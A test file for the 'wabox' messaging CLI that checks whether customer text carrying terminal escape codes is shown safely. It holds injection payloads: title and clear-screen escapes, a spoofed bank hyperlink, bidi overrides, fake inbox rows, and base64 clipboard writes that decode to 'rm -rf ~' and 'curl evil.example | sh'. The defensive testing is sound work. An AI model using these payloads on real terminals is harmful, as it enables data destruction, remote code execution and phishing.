// Hostile text from outside never drives the operator's terminal: the probe's payloads go through the
// real receiver into a real SQLite file, then the built CLI runs every human-readable command on a
// pseudo-terminal (util-linux `script`) and in a pipe. Only wabox's own colour codes (SGR) may reach
// the output; --json keeps every string exactly.
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { simulatedTextMessage } from '../../src/cloud/webhook-simulate.js';
import { MAX_MARKS } from '../../src/core/text.js';
import { BIN, spawnCli, tempDir } from '../helpers/cli.js';
import { startReceiver } from '../helpers/receiver.js';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

interface Probe {
  what: string;
  waId: string;
  name: string;
  text: string;
}

/** The ten payloads of the probe, one contact each. */
const PROBES: Probe[] = [
  {
    what: 'OSC 0 window title',
    waId: '919800000001',
    name: `Asha${ESC}]0;PWNED${BEL}`,
    text: `hello${ESC}]0;your bank${ST} there`,
  },
  {
    what: 'ESC[2J clear screen',
    waId: '919800000002',
    name: `Clear${ESC}[2J${ESC}[H`,
    text: `${ESC}[2J${ESC}[HYour account is locked`,
  },
  {
    what: 'OSC 8 hyperlink',
    waId: '919800000003',
    name: 'Link',
    text: `pay at ${ESC}]8;;https://evil.example/${ST}https://bank.example${ESC}]8;;${ST} today`,
  },
  {
    what: 'OSC 52 clipboard',
    waId: '919800000004',
    name: `Clip${ESC}]52;c;cm0gLXJmIH4K${BEL}`,
    text: `copied${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=${BEL}`,
  },
  {
    what: 'CSI 6n / CSI 21t terminal reports',
    waId: '919800000005',
    name: `Dsr${ESC}[6n`,
    text: `report${ESC}[6n${ESC}[21t please`,
  },
  {
    what: '8-bit C1 codes',
    waId: '919800000006',
    name: 'C1\u009b31m\u009d0;t\u009c',
    text: 'clear\u009b2J\u0085next\u008dline\u009b6n',
  },
  {
    what: 'U+202E right-to-left override',
    waId: '919800000007',
    name: 'Ann \u202Egnp.exe\u202C',
    text: 'pay to \u202E1234 5678\u202C and \u2066isolate\u2069 \u200Fmark',
  },
  {
    what: 'a newline in the name draws a fake inbox row',
    waId: '919800000008',
    name: 'Bob\n● Mallory +15550001111 · 9 unread · waiting 9h',
    text: 'first line\n2025-01-01 00:00:00  ← Bank  verified\rOVERWRITE',
  },
  {
    what: 'an escape where the excerpt is cut',
    waId: '919800000009',
    name: `Cut${ESC}[2J`.repeat(30),
    text: `ab${ESC}[2J`.repeat(80),
  },
  {
    what: 'combining marks',
    waId: '919800000010',
    name: `Z${'\u0301\u0302\u0303\u0304'.repeat(15)}algo`,
    text: `${'ŋ\u0301'.repeat(120)} Z${'\u0336\u0301'.repeat(40)}`,
  },
];

/** What must never reach a terminal from outside: ESC, BEL, a lone CR, C1, bidi controls, separators. */
const FORBIDDEN = /[\u0007\u000d\u001b\u0080-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;
const SGR = /\u001b\[[0-9;]*m/g;

function expectSafe(output: string, label: string): void {
  const at = output.search(FORBIDDEN);
  expect(at, `${label}: ${JSON.stringify(output.slice(Math.max(0, at - 40), at + 40))}`).toBe(-1);
  // escapes are whole: never `\`, `\x` or `\x1` cut off by an ellipsis
  expect(output, label).not.toMatch(/\\(x[0-9a-f]?|u[0-9a-f]{0,3})?…/);
  expect(output, label).not.toMatch(new RegExp(`\\p{M}{${MAX_MARKS + 1}}`, 'u'));
  // a combining mark is never cut from its letter
  expect(output, label).not.toMatch(/ŋ(?!\u0301)/u);
}

const quote = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

function terminalEnv(env: Record<string, string>, color: boolean): NodeJS.ProcessEnv {
  const all: NodeJS.ProcessEnv = { ...process.env, ...env, TERM: 'xterm-256color' };
  for (const key of ['NO_COLOR', 'FORCE_COLOR', 'CI']) delete all[key];
  if (!color) all.NO_COLOR = '1';
  return all;
}

/** Runs the built CLI on a pseudo-terminal: stdout and stderr both go to the terminal. */
function onTerminal(
  args: string[],
  env: Record<string, string>,
  color: boolean,
): Promise<{ code: number | null; output: string }> {
  const command = [process.execPath, BIN, ...args].map(quote).join(' ');
  return new Promise((resolve, reject) => {
    const child = spawn('script', ['-qec', command, '/dev/null'], {
      env: terminalEnv(env, color),
      stdio: ['ignore', 'pipe', 'pipe'],
      timeout: 60_000,
    });
    const out: Buffer[] = [];
    child.stdout.on('data', (c: Buffer) => out.push(c));
    child.stderr.on('data', (c: Buffer) => out.push(c));
    child.on('error', reject);
    child.on('close', (code) =>
      resolve({ code, output: Buffer.concat(out).toString('utf8').replace(/\r\n/g, '\n') }),
    );
  });
}

async function inPipe(args: string[], env: Record<string, string>, stdin?: string) {
  const r = await spawnCli(args, { env, stdin });
  return { code: r.code, stdout: r.stdout, stderr: r.stderr, output: r.stdout + r.stderr };
}

const HUMAN_COMMANDS: string[][] = [
  ['inbox'],
  ['inbox', '--unanswered'],
  ...PROBES.map((p) => ['inbox', 'show', `+${p.waId}`]),
  ['messages', 'list', '--limit', '100'],
  ['messages', 'list', '--to', `+${PROBES[8]!.waId}`],
];

describe('text from customers on a terminal and in a pipe', () => {
  let env: Record<string, string>;
  // one store for every test of the block (tempDir's are removed after each test)
  const dir = mkdtempSync(join(tmpdir(), 'wabox-termsafe-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  beforeAll(async () => {
    const receiver = await startReceiver({ dir });
    try {
      for (const p of PROBES) {
        const { body } = simulatedTextMessage({ from: p.waId, name: p.name, text: p.text, now: new Date() });
        expect((await receiver.post(body)).status, p.what).toBe(200);
      }
    } finally {
      await receiver.stop();
    }
    env = { WABOX_DB: receiver.env.WABOX_DB!, WABOX_CONFIG_DIR: receiver.env.WABOX_CONFIG_DIR! };
  }, 60_000);

  it('the store holds the exact strings (the receiver changes nothing)', async () => {
    const r = await inPipe(['inbox', '--json'], env);
    expect(r.code).toBe(0);
    const list = JSON.parse(r.stdout) as Array<{ waId: string; name: string; lastMessage: { text: string } }>;
    expect(list).toHaveLength(PROBES.length);
    for (const p of PROBES) {
      const c = list.find((x) => x.waId === p.waId);
      expect(c?.name, p.what).toBe(p.name);
      expect(c?.lastMessage.text, p.what).toBe(p.text);
    }
  });

  it.each(HUMAN_COMMANDS.map((a) => [a.join(' '), a] as const))(
    'wabox %s: nothing from outside drives the terminal or the pipe',
    async (_label, args) => {
      const pipe = await inPipe(args, env);
      expect(pipe.code, pipe.stderr).toBe(0);
      expectSafe(pipe.output, `pipe: ${args.join(' ')}`);

      const plain = await onTerminal(args, env, false);
      expect(plain.code, plain.output).toBe(0);
      expectSafe(plain.output, `terminal, NO_COLOR: ${args.join(' ')}`);

      const colour = await onTerminal(args, env, true);
      expect(colour.code, colour.output).toBe(0);
      // colour is on (unanswered conversations are red) and only SGR codes come with it
      expect(colour.output).toMatch(SGR);
      expectSafe(colour.output.replace(SGR, ''), `terminal, colour: ${args.join(' ')}`);
    },
    120_000,
  );

  it('names and previews stay on one line: one inbox row per conversation, no fake row', async () => {
    const pipe = await inPipe(['inbox'], env);
    const rows = pipe.stdout.trimEnd().split('\n');
    expect(rows).toHaveLength(PROBES.length);
    for (const row of rows) {
      expect(row.split('\t')).toHaveLength(12);
      expect(row).toMatch(/^\+9198000000\d\d\t/);
    }
    expect(rows.find((r) => r.includes('Mallory'))).toContain('Bob\\n● Mallory');
    expect(rows.find((r) => r.startsWith(`+${PROBES[6]!.waId}`))).toContain('Ann \\u202egnp.exe\\u202c');
    // the OSC 8 link is shown as text, never made a link
    expect(rows.find((r) => r.startsWith(`+${PROBES[2]!.waId}`))).toContain(
      'pay at \\x1b]8;;https://evil.example/\\x1b\\https://bank.example\\x1b]8;;\\x1b\\ today',
    );

    const tty = await onTerminal(['inbox'], env, false);
    const lines = tty.output.trimEnd().split('\n');
    expect(lines).toHaveLength(PROBES.length);
    for (const line of lines) expect(line).toMatch(/^[●•] /);
    // the excerpt cut lands on a whole escape
    expect(tty.output).toMatch(/← (ab\\x1b\[2J)+(ab?|ab\\x1b(\[2?)?)?…\n/);
    // a long name is cut too, on a whole escape
    expect(tty.output).toMatch(/● (Cut\\x1b\[2J)+(Cu?t?|Cut\\x1b(\[2?)?)?… \+919800000009 /);
  });

  it('inbox show: a body keeps its lines, each indented under its header; a lone CR is shown', async () => {
    const r = await onTerminal(['inbox', 'show', `+${PROBES[7]!.waId}`], env, false);
    const lines = r.output.split('\n');
    expect(lines[0]).toBe('Bob\\n● Mallory +15550001111 · 9 unread · waiting 9h +919800000008');
    expect(lines).toContain('    first line');
    expect(lines).toContain('    2025-01-01 00:00:00  ← Bank  verified\\rOVERWRITE');
  });

  it('label and assign: the name in their line is escaped', async () => {
    for (const args of [
      ['label', 'add', `+${PROBES[7]!.waId}`, 'vip'],
      ['assign', `+${PROBES[0]!.waId}`, 'asha'],
    ]) {
      const pipe = await inPipe(args, env);
      expect(pipe.code, pipe.stderr).toBe(0);
      expectSafe(pipe.output, args.join(' '));
      expect(pipe.stdout.split('\n')).toHaveLength(2);
      const tty = await onTerminal(args, env, false);
      expectSafe(tty.output, args.join(' '));
    }
    const r = await inPipe(['label', 'add', `+${PROBES[0]!.waId}`, 'vip'], env);
    expect(r.stdout).toBe('+919800000001 (Asha\\x1b]0;PWNED\\x07): label added (labels: vip)\n');
  });

  it('--json keeps the exact strings, with terminal controls written as JSON escapes', async () => {
    for (const args of [
      ['messages', 'list', '--json'],
      ...PROBES.map((p) => ['inbox', 'show', `+${p.waId}`, '--json']),
    ]) {
      const r = await inPipe(args, env);
      expect(r.code).toBe(0);
      expect(r.stdout.search(FORBIDDEN), args.join(' ')).toBe(-1);
      const parsed = JSON.parse(r.stdout) as
        | Array<{ waId: string; text: string }>
        | { conversation: { waId: string; name: string }; messages: Array<{ text: string }> };
      if (Array.isArray(parsed)) {
        for (const p of PROBES) expect(parsed.find((m) => m.waId === p.waId)?.text).toBe(p.text);
      } else {
        const p = PROBES.find((x) => x.waId === parsed.conversation.waId)!;
        expect(parsed.conversation.name).toBe(p.name);
        expect(parsed.messages.map((m) => m.text)).toEqual([p.text]);
      }
    }
    const tty = await onTerminal(['inbox', '--json'], env, true);
    expect(tty.output.search(FORBIDDEN)).toBe(-1);
  });
});

describe('text from links, CSV files and template files', () => {
  it('inspect shows a link text holding an escape as escapes; --json keeps it', async () => {
    const url = 'https://wa.me/447700900123?text=%1B%5D0%3Bpwned%07hi%0Asecond%E2%80%AE%C2%9B2J';
    for (const r of [await inPipe(['inspect', url], {}), await onTerminal(['inspect', url], {}, false)]) {
      expect(r.code).toBe(0);
      expectSafe(r.output, 'inspect');
      expect(r.output).toContain('text    \\x1b]0;pwned\\x07hi\n        second\\u202e\\x9b2J\n');
    }
    const stdin = await inPipe(['inspect'], {}, `${url}\n`);
    expectSafe(stdin.output, 'inspect from stdin');
    const json = await inPipe(['inspect', url, '--json'], {});
    expect(JSON.parse(json.stdout).text).toBe(`${ESC}]0;pwned${BEL}hi\nsecond\u202e\u009b2J`);
    expect(json.stdout.search(FORBIDDEN)).toBe(-1);
  });

  it("link --batch: a row's error line shows the CSV data escaped", async () => {
    const dir = tempDir();
    const csv = join(dir, 'contacts.csv');
    writeFileSync(csv, `phone,name\n"${ESC}]0;pwn${BEL}+91\u202e",Asha\n+919876543210,Bob\n`);
    const out = join(dir, 'links.csv');
    const pipe = await inPipe(['link', '--batch', csv, '--output', out], {});
    expect(pipe.code).toBe(1);
    expectSafe(pipe.stderr, 'link --batch in a pipe');
    expect(pipe.stderr).toContain('line 2: "\\x1b]0;pwn\\x07+91\\u202e" is not a phone number');
    const tty = await onTerminal(['link', '--batch', csv, '--output', out], {}, false);
    expect(tty.code).toBe(1);
    // the progress bar's own cursor controls may be there; nothing of the row's data raw
    expect(tty.output).not.toContain(`${ESC}]`);
    expect(tty.output.search(/[\u0007\u0080-\u009f\u202a-\u202e]/u)).toBe(-1);
    expect(tty.output).toContain('line 2: "\\x1b]0;pwn\\x07+91\\u202e" is not a phone number');
  });

  it('template import: an error quoting a name from the file shows it escaped', async () => {
    const dir = tempDir();
    const file = join(dir, 'team.yaml');
    writeFileSync(
      file,
      'templates:\n  - name: "evil\\e]0;pwn\\a\\u202e\\u009b2J\\nrow"\n    kind: quick-reply\n    shortcut: evil\n    language: en\n    body: hi\n',
    );
    const env = { WABOX_CONFIG_DIR: join(dir, 'config') };
    for (const r of [
      await inPipe(['template', 'import', file], env),
      await onTerminal(['template', 'import', file], env, false),
    ]) {
      expect(r.code).toBe(2);
      expectSafe(r.output, 'template import');
      expect(r.output.trimEnd().split('\n')).toHaveLength(1);
      expect(r.output).toContain('invalid template name "evil\\x1b]0;pwn\\x07\\u202e\\x9b2J row"');
    }
    const json = await inPipe(['template', 'import', file, '--json'], env);
    expect(json.stderr.search(FORBIDDEN)).toBe(-1);
    expect(JSON.parse(json.stderr).error.message).toContain(`"evil${ESC}]0;pwn${BEL}\u202e\u009b2J row"`);
  });
});
